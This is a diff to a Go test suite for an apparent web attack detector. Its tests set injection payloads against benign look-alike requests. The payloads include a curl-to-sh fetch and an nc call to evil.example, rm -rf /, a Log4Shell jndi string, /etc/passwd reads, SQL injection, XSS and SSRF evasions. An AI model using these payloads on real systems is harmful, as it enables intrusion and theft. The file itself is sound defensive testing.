@@ -135,8 +135,16 @@ func TestMarkdownProseLowersShellConfidence(t *testing.T) {
 			t.Errorf("markdown prose blocked: %+v", f)
 		}
 	}
-	// The same command chained, or substituted without prose around it, still blocks.
-	for _, body := range []string{`{"title":"x; ` + "`rm -rf /`" + `"}`, `{"title":"run ` + "`id`" + ` now | nc evil.example 4444 please"}`} {
+	// A fenced block with a language tag is code shown as code.
+	fence := post("/chat", jsonCT, `{"content":"`+"```bash\\ncurl -s https://api.example.com/v1/health | jq .status\\n```"+`"}`)
+	for _, f := range d.Inspect(fence, "svc") {
+		if (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85 {
+			t.Errorf("language fence blocked: %+v", f)
+		}
+	}
+	// The same command chained, or substituted without prose around it, or
+	// a fence without a language tag, still blocks.
+	for _, body := range []string{`{"title":"` + "```\\n; curl -s https://evil.example/x | sh\\n```" + `"}`, `{"title":"x; ` + "`rm -rf /`" + `"}`, `{"title":"run ` + "`id`" + ` now | nc evil.example 4444 please"}`} {
 		blocked := false
 		for _, f := range d.Inspect(post("/issues", jsonCT, body), "svc") {
 			blocked = blocked || (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85
@@ -152,6 +160,8 @@ func TestPHPLog4jProtoBoundaries(t *testing.T) {
 		{"php-interpolation-call", get("/g?foo=%24%7B%27ff%27%7D"), get("/g?greeting=Hello+%24%7Bfirst_name%7D")},
 		{"php-interpolation-call", get("/g?x=$y+=+%27sys%27.%27tem%27%3b%28$y%29%28%27uname%27%29%3B"), get("/g?x=see+(figure+2)+(left)")},
 		{"php-rare-function", get("/g?t=tidy_parse_string%28%29"), get("/g?t=tidy+up+the+string")},
+		{"php-rare-function", get("/g?t=ldap_get_entries%28%29"), get("/g?t=ldap_get_entries+is+slow")},
+		{"php-rare-function", get("/g?t=sodium_crypto_box_keypair+%28"), get("/g?t=sodium+(salt)")},
 		{"php-data-wrapper", get("/g?ssrf=data:text/plain;base64,SSBsb3ZlIFBIUAo="), post("/a", jsonCT, `{"avatar":"data:image/png;base64,iVBORw0KGgo="}`)},
 		{"log4shell-entity-brace", post("/p", jsonCT, `{"foo":"$&LBRACE;jndi:ldap://evil.com/x}"}`), post("/p", jsonCT, `{"foo":"price in $&amp; brace"}`)},
 		{"proto-pollution-key", get("/g?a[constructor][prototype]=image"), get("/g?a[constructor]=builder")},
@@ -240,5 +250,133 @@ func TestEvasionFamilyBoundaries(t *testing.T) {
 		{"rfi-remote-script", get("/page?inc=http://evil.example/shell.php?"), get("/page?ref=https://docs.example.com/guide.html")},
 		{"ssrf-internal-url", post("/hooks", jsonCT, `{"url":"http://app.lvh.me/admin"}`), post("/hooks", jsonCT, `{"url":"http://8.8.8.8.nip.io/"}`)},
 		{"ssrf-internal-url", post("/hooks", jsonCT, `{"url":"http://app-127-0-0-1.sslip.io/"}`), post("/hooks", jsonCT, `{"url":"https://api.example.com/v1"}`)},
+	})
+}
+
+func TestMarkupProseLowersXSSConfidence(t *testing.T) {
+	d := newDetector(t, Config{})
+	// A bare tag named in a sentence is text about HTML: below the block threshold.
+	prose := post("/chat", jsonCT, `{"content":"Explain what the <script> tag does in HTML to a beginner."}`)
+	for _, f := range d.Inspect(prose, "svc") {
+		if f.Class == "xss" && f.Confidence >= 85 {
+			t.Errorf("markup prose blocked: %+v", f)
+		}
+	}
+	// The closest attacks: code after the tag, an attribute, or no sentence around it.
+	for _, body := range []string{
+		`{"content":"Explain what the <script>alert(1)</script> tag does in HTML"}`,
+		`{"content":"Explain what the <script src=//evil.example/x.js> tag does in HTML"}`,
+		`{"content":"Explain what the <script>alert` + "`1`" + `</script> tag does in HTML"}`,
+		`{"content":"<script>"}`,
+	} {
+		blocked := false
+		for _, f := range d.Inspect(post("/chat", jsonCT, body), "svc") {
+			blocked = blocked || f.Class == "xss" && f.Confidence >= 85
+		}
+		if !blocked {
+			t.Errorf("not blocked: %s", body)
+		}
+	}
+}
+
+func TestSubstitutionBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"cmdi-substitution", post("/p", jsonCT, `{"slug":"`+"`id`"+`"}`), post("/p", jsonCT, `{"slug":"%60rm--rf%60-in-the-cleanup-script"}`)},
+		{"cmdi-substitution", post("/p", jsonCT, `{"slug":"`+"`cat$IFS/etc/passwd`"+`"}`), post("/p", jsonCT, `{"slug":"`+"`cat-v`"+` is a dog"}`)},
+	})
+}
+
+func TestSQLJSONOperatorBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"sqli-json-operator", get("/g?x=OR+%27%7B%22a%22%3A%22b%22%7D%27+%3F+%27a%27"), get("/g?x=or+%27%7B%22a%22%3A%22b%22%7D%27+what%3F")},
+	})
+}
+
+func TestShellQuoteEvasionBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		// Quotes inside a command word come in pairs; an English
+		// contraction has one.
+		{"rce-shell-evasion", get("/g?c=%3Bca%27%27t+/etc/passwd"), post("/p", jsonCT, `{"body":"In Java: `+"`List<String> names = new ArrayList<>();`"+` I'm <3 this"}`)},
+		{"rce-shell-evasion", post("/p", jsonCT, `{"c":"w'h'o'a'm'i <(id)"}`), post("/p", jsonCT, `{"c":"I ping'd support {twice}; can't wait"}`)},
+	})
+}
+
+func TestMailProtocolBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		// An IMAP command line starts with a tag (a001, a1, *), not an English word.
+		{"rce-mail-protocol", post("/p", jsonCT, `{"m":"x\na001 delete INBOX"}`), post("/p", jsonCT, `{"m":"Hi\nPlease delete my old address and insert the new one"}`)},
+		{"rce-mail-protocol", post("/p", jsonCT, `{"m":"x\r\n. select INBOX"}`), post("/p", jsonCT, `{"m":"Regards,\r\nAnna select the best option"}`)},
+	})
+}
+
+func TestSQLFilterExpressionBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		// A JQL/Lucene-style filter is not SQL; the closest injections are.
+		{"sqli-libinjection", get("/s?jql=x%22+AND+1%3D1+--"), get("/s?jql=project+%3D+WEB+AND+status+in+(Open%2C+%22In+Progress%22)+ORDER+BY+created+DESC")},
+		{"sqli-libinjection", get("/s?jql=text+~+%22a%22+AND+sleep(5)"), get("/s?jql=text+~+%22login+error%22+AND+updated+%3E%3D+-7d")},
+		{"sqli-libinjection", get("/s?jql=%22+or+%22%22%3D%22"), get("/s?jql=assignee+%3D+%22Jane+Doe%22+OR+reporter+%3D+%22Jane+Doe%22")},
+	})
+	for _, v := range []string{`name" or "1"="1`, `a AND 1=1`, `x" union select 1`, `(status = open`, `x = y; drop table t`} {
+		if filterExpression(v) {
+			t.Errorf("filterExpression(%q) = true", v)
+		}
+	}
+}
+
+func TestSQLCodeProseLowersConfidence(t *testing.T) {
+	d := newDetector(t, Config{})
+	prose := post("/chat", jsonCT, `{"content":"What does `+"`SELECT COUNT(*) FROM orders GROUP BY status`"+` return?"}`)
+	for _, f := range d.Inspect(prose, "svc") {
+		if f.Class == "sqli" && f.Confidence >= 85 {
+			t.Errorf("SQL quoted as code in a question blocked: %+v", f)
+		}
+	}
+	for _, body := range []string{
+		`{"content":"1' union select count(*) from users -- "}`,
+		`{"content":"What does ` + "`SELECT COUNT(*) FROM orders`" + ` return'; select count(*) from users --"}`,
+		`{"content":"x` + "` union select count(*) from users where `" + `a=1"}`,
+	} {
+		blocked := false
+		for _, f := range d.Inspect(post("/chat", jsonCT, body), "svc") {
+			blocked = blocked || f.Class == "sqli" && f.Confidence >= 85
+		}
+		if !blocked {
+			t.Errorf("not blocked: %s", body)
+		}
+	}
+}
+
+func TestSSRFNotationBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		// Circled digits/letters fold to ASCII in a host name (IDNA).
+		{"ssrf-internal-url", get("/g?u=imap://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0"), get("/g?u=rate+%E2%91%A0%E2%91%A6+stars+%2F%2F+ok")},
+		{"ssrf-internal-url", get("/g?u=irc://%E2%93%9B%E2%93%9E%E2%93%92%E2%93%90%E2%93%9B%E2%93%97%E2%93%9E%E2%93%A2%E2%93%A3"), get("/g?u=irc://irc.libera.chat")},
+		// An IPv4 address as one integer, hex or octal is an evasion wherever it points.
+		{"ssrf-internal-url", get("/g?u=http%3A2852039166"), get("/g?u=http%3A%2F%2Fexample.com")},
+		{"ssrf-internal-url", get("/g?u=http%3A123456789"), post("/p", jsonCT, `{"entrypoint":"http:8080"}`)},
+		{"ssrf-internal-url", get("/g?u=http://0x7f.1/"), get("/g?u=http://93.184.216.34/")},
+		{"ssrf-internal-url", get("/g?u=rtmp://017700000001"), get("/g?u=rtmp://live.example.com/app")},
+		{"ssrf-internal-url", get("/g?u=local_file://x/etc/passwd"), get("/g?u=file_name://x")},
+		// Parser confusion: a host-shaped piece after '@' before the path.
+		{"ssrf-internal-url", get("/g?u=http://a.com%3A80%20%26%40127.1.2.3%3A22%2F"), get("/g?u=http://a.com/%40127.1.2.3")},
+	})
+}
+
+func TestTraversalLeadingParentBoundaries(t *testing.T) {
+	upload := func(filename string) *call.Request {
+		body := "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename + "\"\r\nContent-Type: application/octet-stream\r\n\r\nDATA\r\n--b--\r\n"
+		return post("/upload", "multipart/form-data; boundary=b", body)
+	}
+	runBoundaries(t, []boundary{
+		{"traversal-leading-parent", upload(`..\1.7z`), upload(`1..7.7z`)},
+		{"traversal-leading-parent", get("/g?a=..;.%5C.;%5C."), get("/g?a=see+../docs+for+more")},
+		{"traversal-leading-parent", get("/g?f=../x"), get("/g?f=...and+so+on")},
+	})
+}
+
+func TestPerlInterpolationBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"rce-perl-interpolation", get("/g?x=%40%7B%5B%24%24%5D%7D"), get("/g?x=%40%7Bname%7D+and+%5Bx%5D")},
+		{"rce-perl-interpolation", get("/g?x=%40%7B+++%5B+uc+%27hi%27+%5D+++%7D"), get("/g?x=user%40%7B%22a%22%3A%5B1%5D%2C%22b%22%3A2%7D")},
 	})
 }
